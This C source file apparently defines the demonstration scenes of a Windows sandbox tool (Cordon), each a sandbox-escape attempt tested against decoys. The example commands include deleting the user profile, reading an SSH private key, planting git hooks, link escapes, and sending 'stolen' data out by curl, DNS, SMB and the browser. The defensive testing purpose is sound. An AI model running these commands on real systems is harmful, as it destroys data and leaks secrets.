/*
 * demo_scenes: the violations that are played on Windows, in the order in which somebody inside would try them, one row each.
 *
 * Each is a row of trials.h: those of doctor by their name, and a few of the demo's own, which are tried on decoys of its stage. What
 * an attempt would leave behind where it is not refused is a word in a decoy, or nothing.
 */
#include "demo_scenes.h"

#define DELETE_ITSELF 0x10000 /* DELETE, as nt.h has it: what removing and renaming ask for */

#define REMEDY "do not use this boundary; cordon doctor tries each promise"

/* Its control inside is the same where that is allowed. */
#define OWN(point, says, what, victim, elsewhere, ...)                                                                          \
    .own = {.name = "", .rule = point, .sentence = says, .remedy = REMEDY, .how = TRIAL_INSIDE, .on = ON_DECOY, .kind = what,    \
        .expected = ANSWER_DENIED, .same = what, .same_on = ON_OTHER_DECOY, .decoy = victim, .other = elsewhere, __VA_ARGS__}
#define NO_ALLOWING "nothing: no rule of the policy opens this"
#define BY_ONLINE   ":net online, or \"network\": {\"mode\": \"online\"} in the policy: that opens the whole network"

static const struct scene table[] = {
    /* ---- files ---- */
    {.name = "delete-home", .title = "delete your documents",
        .words = "A script with a wrong variable, or an agent that tidies up, deletes your\n"
                 "profile: documents, keys, and what no backup has yet.",
        .command = "rmdir /s /q %USERPROFILE%",
        OWN("write side", "what lies outside the writable roots cannot be deleted", PROBE_OPEN,
            "outside/documents/thesis.txt", "work/plain/thesis.txt", .number = DELETE_ITSELF, .needs = NEED_ACCOUNT),
        .operation = OPERATION_DELETE, .unharmed = "the document", .weak = true},
    {.name = "write-outside", .title = "write outside the workspace",
        .words = "A build step, a package's install script or an agent changes a file of yours\n"
                 "that has nothing to do with the project: a diary, a start file, a program in\n"
                 "PATH.",
        .command = "echo evil >> %USERPROFILE%\\Documents\\diary.txt",
        OWN("write side", "a write outside the writable roots is refused", PROBE_WRITE,
            "outside/documents/diary.txt", "work/plain/diary.txt", .needs = 0),
        .operation = OPERATION_WRITE, .unharmed = "the file, and all outside the workspace", .weak = true},
    {.name = "read-key", .title = "read an SSH key",
        .words = "A package that you only wanted to build reads your private key. Whoever has it\n"
                 "is you on every machine that trusts it.",
        .command = "type %USERPROFILE%\\.ssh\\id_ed25519",
        OWN("read side", "a secret path cannot be read", PROBE_READ, "outside/.ssh/id_ed25519",
            "work/plain/id_ed25519", .needs = NEED_ACCOUNT),
        .operation = OPERATION_READ, .secret = "outside/.ssh", .unharmed = "the key: it was not opened", .weak = true},
    {.name = "protected-config", .title = "write protected configuration",
        .words = "Your editor runs the tasks that it finds in a project. Planted from inside,\n"
                 "this one would run outside, as you, when you open the folder.",
        .command = "echo {\"command\": \"evil\"} >> .vscode\\tasks.json",
        OWN("W8", "a protected path cannot be written", PROBE_WRITE, "work/.vscode/tasks.json", "work/plain/tasks.json",
            .needs = 0),
        .operation = OPERATION_WRITE, .unharmed = "the editor's tasks", .weak = true},
    {.name = "git-hook", .title = "run code through a git hook",
        .words = "Git runs hooks: your next commit, outside, would run what was planted here.\n"
                 "That a commit works inside must not mean that this does.",
        .command = "echo evil >> .git\\hooks\\pre-commit",
        OWN("W8", "what git runs cannot be written", PROBE_WRITE, "work/.git/hooks/pre-commit", "work/plain/pre-commit", .needs = 0),
        .operation = OPERATION_WRITE, .unharmed = "the hooks of the repository", .weak = true},
    {.name = "git-config", .title = "run code through git's configuration",
        .words = "Git's configuration names programs (fsmonitor, pager, filters) that even git\n"
                 "status runs. Whoever writes it runs outside when you next ask git anything.",
        .command = "echo [core] fsmonitor = evil >> .git\\config",
        OWN("W8", "what git obeys cannot be written", PROBE_WRITE, "work/.git/config", "work/plain/config", .needs = 0),
        .operation = OPERATION_WRITE, .unharmed = "the repository's configuration", .weak = true},
    {.name = "rename-away", .title = "move the protected folder out of the way",
        .words = "What may not be written is moved aside with the folder it lies in, and a new\n"
                 "one put in its place. Renaming a folder asks for the right to delete it.",
        .command = "ren .git old && md .git\\hooks",
        OWN("W8", "a folder that holds something protected is not renamed away", PROBE_OPEN, "work/.git", "work/plain",
            .number = DELETE_ITSELF),
        .folder = true, .operation = OPERATION_DELETE, .unharmed = "the repository, where it was", .weak = true},
    {.name = "hard-link", .title = "escape through a hard link",
        .words = "A second name in the workspace for a file outside: the same file by a path\n"
                 "that may be written. Cordon planted this one.",
        .command = "mklink /h name %USERPROFILE%\\letter.txt && echo evil >> name",
        OWN("W10", "a file outside cannot be written by a name inside", PROBE_WRITE, "work/name", "work/plain/letter.txt", .needs = 0),
        .links_to = "outside/documents/letter.txt", .operation = OPERATION_WRITE, .unharmed = "the file outside"},
    {.name = "junction", .title = "escape through a junction",
        .words = "A junction in the workspace, where writing is allowed, leads outside. What\n"
                 "counts must be where it leads, not what it is called.",
        .command = "mklink /j way %USERPROFILE%\\Documents && echo evil > way\\x",
        OWN("W10", "a junction does not lead writes out", PROBE_WRITE, "work/way", "work/plain", .needs = 0),
        .links_to = "outside/documents", .junction = true, .folder = true, .operation = OPERATION_WRITE,
        .unharmed = "the folder that it leads to"},
    {.name = "wait-hard-link", .title = "plant a hard link, then wait for :reapply",
        .words = "Cordon itself, as you, puts entries on what lies in the workspace. Somebody\n"
                 "inside plants a link to a file outside, and lets Cordon open that file to him.",
        .command = "mklink /h name %USERPROFILE%\\letter.txt", .row = "w10-hard-link", .allow = NO_ALLOWING,
        .unharmed = "the permissions of the file outside"},
    {.name = "wait-junction", .title = "plant a junction, then wait for :reapply",
        .words = "The same with a folder: if Cordon's walk went through the junction, all behind\n"
                 "it would be opened to the sandbox.",
        .command = "mklink /j way %USERPROFILE%\\Documents", .row = "w10-junction",
        .rule = "a junction that leads out of a root does not carry entries out", .allow = NO_ALLOWING,
        .unharmed = "the permissions of what lies behind it"},
    /* ---- the desktop, and processes ---- */
    {.name = "send-input", .title = "type on your desktop",
        .words = "SendInput presses keys in whatever window is in front: Windows+R, a command,\n"
                 "Enter, and it runs outside, as you. Tried with a mouse that moves by nothing.",
        .command = "SendInput(Win+R, \"evil\", Enter)", .row = "w4-send-input", .allow = NO_ALLOWING,
        .unharmed = "your windows: no key arrived"},
    {.name = "clipboard", .title = "read your clipboard",
        .words = "Passwords go through it, and what you paste next may have been put there. It\n"
                 "hangs on the window station that you are logged on to.",
        .command = "Get-Clipboard", .row = "w4-station", .allow = NO_ALLOWING,
        .unharmed = "your clipboard: it was not opened"},
    {.name = "window", .title = "see and message your windows",
        .words = "Whoever finds a window can send it messages, and many a program obeys them.",
        .command = "FindWindow(\"Shell_TrayWnd\")", .row = "w4-window", .allow = NO_ALLOWING, .unharmed = "your windows: none was seen"},
    {.name = "console-host", .title = "take over the console's host",
        .words = "Each console has a host process, which is not restricted as the programs in it\n"
                 "are. Who can write its memory is out.",
        .command = "OpenProcess(PROCESS_VM_WRITE, conhost)",
        .own = {.name = "", .rule = "W2", .sentence = "console hosts cannot be reached into", .remedy = REMEDY, .how = TRIAL_INSIDE,
            .on = ON_RUNNER, .kind = PROBE_HOST, .expected = ANSWER_DENIED, .same = PROBE_START},
        .allow = NO_ALLOWING, .unharmed = "the console's host"},
    {.name = "other-session", .title = "reach into your other terminal",
        .words = "Two terminals of yours share the sandbox's account: what is inside one must\n"
                 "not reach what starts the programs of the other.",
        .command = "OpenProcess(PROCESS_VM_WRITE, the other runner)", .row = "w2-other-session", .allow = NO_ALLOWING,
        .unharmed = "the other session, which Cordon opened for this"},
    {.name = "breakaway", .title = "stay when the terminal goes",
        .words = "A program that leaves the job lives on after you closed the terminal, and\n"
                 "nobody looks at it any more.",
        .command = "CreateProcess(CREATE_BREAKAWAY_FROM_JOB)", .row = "w3-breakaway", .allow = NO_ALLOWING,
        .unharmed = "you: what runs inside ends with the terminal"},
    /* ---- the network ---- */
    {.name = "call-out", .title = "call out",
        .words = "What a program has read it sends away. A listener that Cordon opened outside,\n"
                 "on loopback, stands for the rest of the world.",
        .command = "curl -d @stolen http://127.0.0.1:PORT/",
        .own = {.name = "", .rule = "W6", .sentence = "nothing outside can be connected to", .remedy = "run cordon repair",
            .how = TRIAL_INSIDE, .on = ON_LISTENER, .kind = PROBE_CONNECT, .expected = ANSWER_DENIED, .same = PROBE_LOOPBACK,
            .needs = NEED_ACCOUNT | NEED_OFFLINE},
        .allow = BY_ONLINE, .unharmed = "nobody connected to the listener", .weak = true},
    {.name = "raw-socket", .title = "send a datagram, past the proxies",
        .words = "Proxy variables hold only what asks for them. This has a socket of its own and\n"
                 "asks nobody.",
        .command = "sendto(127.0.0.1:PORT, \"stolen\")", .row = "w6-udp", .allow = BY_ONLINE, .unharmed = "no datagram arrived",
        .weak = true},
    {.name = "dns", .title = "carry data out in names",
        .words = "A lookup of SECRET.example.org tells whoever runs example.org the secret. It\n"
                 "is a service of Windows that asks, not the program.",
        .command = "Resolve-DnsName stolen.example.org", .row = "w5-dns", .allow = BY_ONLINE, .unharmed = "no name was asked for"},
    {.name = "share", .title = "write to a file server",
        .words = "Windows itself connects to \\\\server\\share for whoever opens such a path.",
        .command = "copy secret \\\\192.0.2.1\\share\\x", .row = "w5-share", .allow = BY_ONLINE, .unharmed = "no server was reached"},
    {.name = "webdav", .title = "the same over the web",
        .words = "\\\\host@80\\share is a path as any other, and a service of Windows makes web\n"
                 "requests of it.",
        .command = "dir \\\\example.org@80\\share", .row = "w5-webdav", .rule = "no server is reached by the web redirector",
        .allow = BY_ONLINE, .unharmed = "the listener was not called"},
    /* ---- services that act for the caller ---- */
    {.name = "wsl", .title = "leave through WSL",
        .words = "A Linux in a virtual machine of its own, with your files and with a network\n"
                 "that no filter of this account sees.",
        .command = "wsl -- curl example.org", .row = "w5-wsl", .allow = NO_ALLOWING,
        .unharmed = "you: it did not start"},
    {.name = "bits", .title = "let the transfer service carry it out",
        .words = "BITS up- and downloads in the background for whoever asks, in a process of the\n"
                 "system's.",
        .command = "Start-BitsTransfer -TransferType Upload ...", .row = "w5-bits", .allow = NO_ALLOWING,
        .unharmed = "you: the service did not answer"},
    {.name = "wmi", .title = "start a process by WMI",
        .words = "Win32_Process.Create starts what it is told as a child of a service: outside\n"
                 "of the job, with another token.",
        .command = "Invoke-CimMethod Win32_Process -MethodName Create ...", .row = "w5-wmi", .allow = NO_ALLOWING,
        .unharmed = "you: nothing was started"},
    {.name = "interactive-user", .title = "ask a server that runs as you",
        .words = "Some COM servers run as whoever is logged on: the desktop's own can be told to\n"
                 "start a program, which then is yours.",
        .command = "(New-Object -ComObject Shell.Application).ShellExecute(...)", .row = "w5-interactive-user",
        .allow = NO_ALLOWING, .unharmed = "you: it did not answer"},
    {.name = "task", .title = "schedule a task",
        .words = "What the Task Scheduler starts later is in no job and has no restricted token.\n"
                 "Tried with a disabled task, which is removed at once.",
        .command = "schtasks /create /tn x /tr evil /sc onlogon", .row = "w5-task", .allow = NO_ALLOWING,
        .unharmed = "you: no task was made"},
    /* ---- what needs no way out ---- */
    {.name = "flat-volume", .title = "write to a stick without permissions",
        .words = "FAT and exFAT know no permissions: what is on such a stick is anybody's.",
        .command = "copy secret E:\\", .row = "flat-volume", .allow = "it is open as long as it is plugged in", .unharmed = "the stick"},
    {.name = "everyone-folder", .title = "write where Everyone may",
        .words = "Folders that some installer opened to Everyone are open to what runs inside\n"
                 "too, and programs of yours may run what lies there.",
        .command = "copy evil.dll C:\\SomeTool\\", .row = "everyone-folder", .allow = "\"write\" in the policy, if you want it to be",
        .unharmed = "the folder"},
    {.name = "flood-log", .title = "flood the Security log",
        .words = "What was refused is written into a log; enough refusals push out what came\n"
                 "before, or stop a machine that is set to stop when the log is full.",
        .command = "for /l %i in (1,1,999999) do @type secret", .row = "w9-log", .unharmed = "the log: it was looked at, not flooded"},
    {.name = "start-https", .title = "let your browser call out",
        .words = "start https://... asks your own browser, which has your network and your\n"
                 "logins.",
        .command = "start https://example.org/?stolen", .row = "w5-start-https", .unharmed = "your browser"},
    {.name = "runas", .title = "ask you for an administrator",
        .words = "A prompt for elevation comes up on your desktop, and looks like any other. No\n"
                 "is the answer to whatever comes up while something runs inside.",
        .command = "Start-Process evil -Verb RunAs", .row = "runas", .unharmed = "your desktop"},
    {.name = "cloud-folder", .title = "have a cloud client carry it out",
        .words = "A workspace in a folder that is synchronized is uploaded by your own client.",
        .command = "copy secret %OneDrive%\\project\\", .row = "cloud-folder", .unharmed = "your account there"},
};

const struct scene *scenes_list(size_t *count)
{
    *count = COUNT_OF(table);
    return table;
}

const struct trial *scene_trial(const struct scene *m)
{
    size_t count;
    const struct trial *rows = trials_list(&count);

    for (size_t i = 0; m->row && i < count; i++)
        if (str_is(str_from(m->row), rows[i].name))
            return &rows[i];
    return m->row ? NULL : &m->own;
}

enum scene_end scene_judge(const struct trial *row, const struct trial_result *r, bool enforced)
{
    if (r->state == PROMISE_BROKEN)
        return SCENE_HAPPENED;
    if (row->how == TRIAL_NOT || row->how == TRIAL_READ || r->observed == ANSWER_MISSING)
        return SCENE_NOT_TRIED;
    return r->state == PROMISE_OBSERVED && enforced ? SCENE_HELD : SCENE_SHOWS_NOTHING;
}

bool scene_promised(const struct trial *row, enum plan_tier tier)
{
    return tier == TIER_SET_UP || (tier != TIER_UNENFORCED && !(row->needs & NEED_ACCOUNT));
}
